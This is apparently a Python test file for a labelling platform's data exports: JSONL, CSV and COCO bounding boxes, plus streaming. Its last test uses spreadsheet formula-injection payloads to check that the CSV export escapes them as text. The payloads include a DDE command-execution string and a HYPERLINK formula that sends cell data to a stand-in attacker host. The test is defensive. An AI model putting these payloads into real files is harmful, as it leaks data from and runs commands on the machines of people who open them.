"""Streamed exports: JSONL, CSV and COCO carry the verified answer, confidence and provenance."""

from __future__ import annotations

import csv
import io
import json

from tests.quality.conftest import NOW, answer, decide_items, items_of, label, make_pack, make_user


def _verified_pack(tmp_path, config):
    from sapien.quality import reviews as quality_reviews

    config(QUALITY_CONFIDENCE_THRESHOLD=0.5, PLANTED_REVIEW_RATE_PERCENT=0)
    pack = make_pack(tmp_path, items=2, labels_per_item=1, max_labels_per_item=1, review_rate_percent=100)
    author, reviewer = make_user(), make_user(role="reviewer")
    for item in items_of(pack.id):
        answer(author, item.id, label("pos"))
    reviews = []
    for _ in range(2):
        review = quality_reviews.claim_next_review(reviewer, NOW)
        quality_reviews.decide_review(review.id, reviewer, outcome="accepted", now=NOW)
        reviews.append(review.id)
    assert decide_items() == 2  # the accepts queued their items' decisions
    return pack, author, reviews


def test_jsonl_and_csv_exports(ctx, tmp_path, config):
    from sapien.quality import exports

    pack, author, reviews = _verified_pack(tmp_path, config)
    records = [json.loads(line) for line in "".join(exports.export_jsonl(pack.id)).splitlines()]
    assert [r["external_id"] for r in records] == ["i0", "i1"]
    assert all(r["answer"] == {"labels": ["pos"]} and r["contributor_ids"] == [author] for r in records)
    assert sorted(r["review_ids"][0] for r in records) == sorted(reviews)
    assert all(0 < r["confidence"] <= 1 and r["method"] == "online_vote" and r["labels_used"] == 1 for r in records)
    rows = list(csv.DictReader(io.StringIO("".join(exports.export_csv(pack.id)))))
    assert [r["external_id"] for r in rows] == ["i0", "i1"]
    assert rows[0]["answer"] == "pos" and json.loads(rows[0]["answer_json"]) == {"labels": ["pos"]}
    assert rows[0]["contributor_ids"] == str(author) and rows[0]["review_ids"] in {str(r) for r in reviews}


def test_exports_stream_in_pieces(ctx, tmp_path, config):
    from sapien.quality import exports

    pack, _author, _reviews = _verified_pack(tmp_path, config)
    chunks = list(exports.export_csv(pack.id))
    assert len(chunks) == 3  # the header, then one piece per label: nothing is built up in memory


def test_coco_export_for_boxes(ctx, tmp_path, config):
    from sapien.labeling import leases, submissions
    from sapien.quality import exports
    from tests.labeling.conftest import make_media_pack

    config(QUALITY_CONFIDENCE_THRESHOLD=0.5)
    # Two members who drew the same boxes: one drawing alone is never verified.
    pack, report = make_media_pack(tmp_path, "bounding_boxes", labels=("cell", "nucleus"), labels_per_item=2, max_labels_per_item=2)
    assert not report.problems
    member, second = make_user(), make_user()
    item = items_of(pack.id)[0]
    boxes = [{"x": 1, "y": 2, "w": 10, "h": 8, "label": "nucleus"}, {"x": 20, "y": 20, "w": 5, "h": 5, "label": "cell"}]
    for who in (member, second):
        lease = leases.lease_item(who, item.id, NOW)
        submissions.submit_answer(who, lease.id, {"boxes": boxes}, now=NOW)
    decide_items()
    coco = json.loads("".join(exports.export_coco(pack.id)))
    assert [c["name"] for c in coco["categories"]] == ["cell", "nucleus"]
    (image,) = coco["images"]
    assert image["id"] == item.id and image["width"] == 64 and image["height"] == 48
    assert image["sapien"]["contributor_ids"] == sorted([member, second])
    by_category = {a["category_id"]: a for a in coco["annotations"]}
    assert by_category[2]["bbox"] == [1, 2, 10, 8] and by_category[2]["area"] == 80
    assert by_category[1]["bbox"] == [20, 20, 5, 5] and all(a["image_id"] == item.id for a in coco["annotations"])


def test_csv_export_keeps_formulas_as_text(ctx, tmp_path, config):
    """Answers and external ids that look like spreadsheet formulas reach the CSV as text, not formulas."""
    from sapien.quality import exports

    config(QUALITY_CONFIDENCE_THRESHOLD=0.5)
    external_ids = ["@SUM(A1:A9)", "=cmd|' /C calc'!A0", "-2+3", "+1", "plain"]
    texts = ['=HYPERLINK("http://evil.example/?leak="&A1, "Click me")', "@SUM(1+1)", "-1+1", "+cmd", "Fine."]
    rows = [{"external_id": external_id, "text": f"Clean item {n}."} for n, external_id in enumerate(external_ids)]
    pack = make_pack(tmp_path, rows=rows, task_type="text_cleaning", labels_per_item=2, max_labels_per_item=2)
    author, second = make_user(), make_user()  # two who agree: one answer alone is never verified
    for item, text in zip(items_of(pack.id), texts, strict=True):
        answer(author, item.id, {"text": text})
        answer(second, item.id, {"text": text})
    exported = list(csv.DictReader(io.StringIO("".join(exports.export_csv(pack.id)))))
    assert [row["external_id"] for row in exported] == ["'@SUM(A1:A9)", "'=cmd|' /C calc'!A0", "'-2+3", "'+1", "plain"]
    assert [row["answer"] for row in exported] == ["'" + text for text in texts[:4]] + ["Fine."]
    # The JSON column starts with "{": it is left as it is, and still parses.
    assert json.loads(exported[0]["answer_json"]) == {"text": texts[0]}
